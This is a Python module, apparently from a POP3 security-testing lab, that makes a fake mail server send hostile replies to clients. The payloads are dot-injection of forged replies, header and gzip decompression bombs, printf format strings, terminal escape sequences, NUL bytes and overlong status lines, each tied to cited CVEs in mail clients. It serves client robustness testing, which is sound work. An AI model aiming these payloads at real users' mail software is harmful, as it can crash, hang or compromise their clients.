"""Attacks by messages and reply texts that break their readers."""

import gzip
from base64 import encodebytes
from collections.abc import Callable, Collection, Iterable, Iterator, Sequence
from itertools import chain
from typing import Annotated, Literal

from pop3lab.behaviours.retrieval_texts import line, of_message
from pop3lab.core.command import KEYWORDS, LISTINGS, LOGIN_VERBS, TEXTS
from pop3lab.core.hooks import Hooks
from pop3lab.core.reply import Body, Reply
from pop3lab.core.request import Request
from pop3lab.core.state import SessionState
from pop3lab.effects.bodies import CRLF, as_sent, message_body, with_final_crlf
from pop3lab.effects.commands import TableHook, refused
from pop3lab.effects.hooks import ReplyHook, StatusLineHook
from pop3lab.effects.listings import body_lines, with_lines
from pop3lab.effects.maildrop_views import ListedMessage, LoginContext, ViewHook
from pop3lab.rules.behaviour import Layer
from pop3lab.rules.declaration import BehaviourDecorator
from pop3lab.rules.values import Count

attack = BehaviourDecorator("attack", category="parsing")

_Injection = Literal["lf", "lf-lf", "cr", "crlf"]
_INJECTIONS: dict[_Injection, bytes] = {
    "lf": b"\n.\r\n",
    "lf-lf": b"\n.\n",
    "cr": b"\r.\r",
    "crlf": b".\r\n",
}


@attack(
    "ends a message early for clients that accept other line ends, and puts replies after that",
    source="careless servers: POP3Lite, GreenMail (PR#1049) (C)",
    bugs="CVE-2001-0996, CVE-1999-1033 in Outlook Express, CVE-2002-2338 in Mozilla",
    against=("no-stuffing", "over-stuffing"),
    takes=("empty message",),
)
def dot_injection(
    form: Annotated[_Injection, "the line ends around the dot"] = "lf",
    octets: Annotated[bytes, "the octets after the dot"] = b"+OK\r\n+OK\r\n",
) -> Hooks:
    tail = _INJECTIONS[form] + octets

    def say(session: SessionState, request: Request, reply: Reply) -> Reply:
        body = message_body(reply)
        if body is None:
            return reply
        chunks = chain(with_final_crlf(as_sent(body)), (tail,))
        return reply._replace(body=Body(chunks, body.end, stuffed=False))

    return ReplyHook(say, "RETR")


# Messages of extreme size or structure

_Bomb = Callable[[int], Iterator[bytes]]  # of a size, in octets or in number of parts
_Number = Annotated[Count, "the message, by its number in the first session"]

_BODY = b"\r\nthe body\r\n"
_LINES = 1000  # in one piece
_MEMBER = 1 << 20  # octets of one member of a gzip file, unpacked


def _bomb(bomb: tuple[_Bomb, int], size: int, number: int) -> Hooks:
    make, usual = bomb
    octets = sum(map(len, make(size or usual)))

    def change(one: ListedMessage) -> ListedMessage:
        return one.with_filter(lambda _: make(size or usual), octets)

    return ViewHook(of_message(number, change))


def _long(size: int) -> Iterator[bytes]:
    yield b"Subject: "
    yield from line(size, 0)
    yield b"\r\n" + _BODY


def _many(size: int) -> Iterator[bytes]:
    for start in range(0, size, _LINES):
        names = range(start, min(start + _LINES, size))
        yield b"".join([b"X-%d: bomb\r\n" % name for name in names])
    yield _BODY


def _none(size: int) -> Iterator[bytes]:
    yield _BODY


def _date(size: int) -> Iterator[bytes]:
    yield b"Date: Sat, 5 Nov 1994 21:30:00 +"
    yield b"0" * size
    yield b"\r\n" + _BODY


def _nested(size: int) -> Iterator[bytes]:
    yield b"MIME-Version: 1.0\r\n"
    for depth in range(size):
        yield b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (depth, depth)
    yield _BODY


def _boundary(size: int) -> Iterator[bytes]:
    yield b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=""\r\n\r\n'
    yield b"--\r\n\r\na part\r\n----\r\n"


_Header = Literal["long", "many", "none", "date", "nesting", "boundary"]
HEADERS: dict[_Header, tuple[_Bomb, int]] = {
    "long": (_long, 1 << 20),
    "many": (_many, 1_000_000),
    "none": (_none, 0),
    "date": (_date, 1 << 16),
    "nesting": (_nested, 10_000),
    "boundary": (_boundary, 0),
}


@attack(
    "sends a message with a huge header or structure, or without a header",
    source="an attack",
    bugs="CVE-2002-1174, CVE-2005-4348 in fetchmail; Outlook's maildrop was blocked",
    layer=Layer.FIRST,
    aspect="the text of message {number}",
)
def header_bombs(
    form: Annotated[_Header, "the huge part"] = "long",
    size: Annotated[Count, "its octets, lines or depth, 0 for a large default"] = 0,
    number: _Number = 1,
) -> Hooks:
    return _bomb(HEADERS[form], size, number)


def _attached(name: bytes) -> bytes:
    return (
        b"Subject: an attachment\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="bomb"\r\n\r\n--bomb\r\n'
        b"Content-Type: application/octet-stream\r\n"
        b'Content-Disposition: attachment; filename="%s"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n" % name
    )


_LAST = b"--bomb--\r\n"


def _plain(size: int) -> Iterator[bytes]:
    row = b"A" * 76 + b"\r\n"
    yield _attached(b"zeros.bin")
    for left in range(-(-size // len(row)), 0, -_LINES):
        yield row * min(left, _LINES)
    yield _LAST


def _gzip(size: int) -> Iterator[bytes]:
    yield _attached(b"zeros.gz")
    packed = gzip.compress(bytes(_MEMBER), mtime=0) * (size // _MEMBER)
    packed += gzip.compress(bytes(size % _MEMBER), mtime=0)
    yield encodebytes(packed).replace(b"\n", b"\r\n")
    yield _LAST


def _parts(size: int) -> Iterator[bytes]:
    yield b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="bomb"\r\n\r\n'
    part = b"--bomb\r\nContent-Type: text/plain\r\n\r\na part\r\n"
    for left in range(size, 0, -_LINES):
        yield part * min(left, _LINES)
    yield _LAST


_Attachment = Literal["plain", "gzip", "parts"]
ATTACHMENTS: dict[_Attachment, tuple[_Bomb, int]] = {
    "plain": (_plain, 10 << 20),
    "gzip": (_gzip, 10 << 20),
    "parts": (_parts, 100_000),
}


@attack(
    "sends a message with a huge attachment, one that unpacks to it, or very many parts",
    source="no server known (D)",
    layer=Layer.FIRST,
    aspect="the text of message {number}",
)
def attachment_bomb(
    form: Annotated[_Attachment, "the kind of attachment"] = "plain",
    size: Annotated[Count, "its octets or parts, 0 for 10 MiB or 100,000 parts"] = 0,
    number: _Number = 1,
) -> Hooks:
    return _bomb(ATTACHMENTS[form], size, number)


# Texts of replies that do harm when they are displayed, stored or followed.

FORMAT_STRING = b"%n%s%x" * 50
ESCAPES = b"\x1b]0;owned\x07\x1b[2J\x1b[31m\x08\x08ok\rover"
BINARY = bytes(octet for octet in range(1, 256) if octet not in b"\r\n")


class _Everywhere(StatusLineHook):
    """Adds a text to each status line, and to lists and messages."""

    replies: Collection[str] = (*LISTINGS, *KEYWORDS, *TEXTS)

    def __init__(self, text: bytes) -> None:
        super().__init__(lambda status: status + b" " + text)
        self._text = text

    def reply(self, request: Request, reply: Reply) -> Reply:
        if not reply.ok or reply.body is None:
            return reply
        if request.verb in TEXTS:
            chunks = self._in_message(reply.body.chunks, whole=request.verb == "RETR")
            return reply._replace(body=reply.body._replace(chunks=chunks))
        lines = body_lines(reply.body)
        if request.verb == "CAPA":
            return with_lines(reply, reply.body, [*lines, b"X-" + self._text])
        gap = b" " if request.verb == "LIST" else b""
        return with_lines(reply, reply.body, [line + gap + self._text for line in lines])

    def _in_message(self, chunks: Iterable[bytes], whole: bool) -> Iterable[bytes]:
        named = chain((b"X-Text: " + self._text + CRLF,), chunks)
        return chain(with_final_crlf(named), (self._text + CRLF,)) if whole else named


@attack(
    "puts printf formats into all texts: status lines, lists, headers and bodies",
    source="an attack",
    bugs="CVE-2007-2958 in Sylpheed and Claws, CVE-2005-4300 in libremail",
    takes=("empty message",),
)
def format_strings(text: Annotated[bytes, "the text"] = FORMAT_STRING) -> Hooks:
    return _Everywhere(text)


terminal_escapes = attack.preset(
    "terminal-escapes",
    format_strings,
    "puts terminal escape sequences into all texts: status lines, lists, headers and bodies",
    source="the ANSI test of EAST (A)",
    text=ESCAPES,
)

nul_everywhere = attack.preset(
    "nul-everywhere",
    format_strings,
    "puts a NUL into all texts: status lines, lists, headers and bodies",
    source="an attack",
    bugs="text after it is lost; Outlook hangs",
    text=b"before\x00behind",
)


@attack(
    "sends binary or overlong status lines",
    source="an attack",
    bugs="CVE-2014-3891 in Becky!",
)
def crafted_status(
    form: Annotated[Literal["long", "binary"], "the kind of status line"] = "long",
    octets: Annotated[Count, "additional octets of a long line"] = 2000,
) -> Hooks:
    tail = b" " + (b"x" * octets if form == "long" else BINARY)
    return StatusLineHook(lambda line: line + tail)


@attack(
    "refuses a login and refers to another server",
    source="a feature of Dovecot (A)",
    layer=Layer.FIRST,
    aspect="the reply to a login",
    takes=("login", "failed login"),
)
def redirect_referral(
    url: Annotated[str, "the URL of the other server"] = "pop://mail.example.net/",
) -> Hooks:
    text = f"[REFERRAL/{url}] Try this server instead."
    return TableHook(refused(*LOGIN_VERBS, text=text))


@attack(
    "sends other texts for the same unique-ids from one session on, as another server would",
    source="no server known (D)",
    layer=Layer.FIRST,
)
def resume_confusion(
    session: Annotated[Count, "the first of these sessions, counted per user"] = 2,
) -> Hooks:
    def view(visit: LoginContext) -> Sequence[ListedMessage]:
        if visit.nth < session:
            return visit.messages
        return [
            one.with_text(b"Subject: another server's\r\n\r\nmessage %d\r\n" % number)
            for number, one in enumerate(visit.messages, 1)
        ]

    return ViewHook(view)
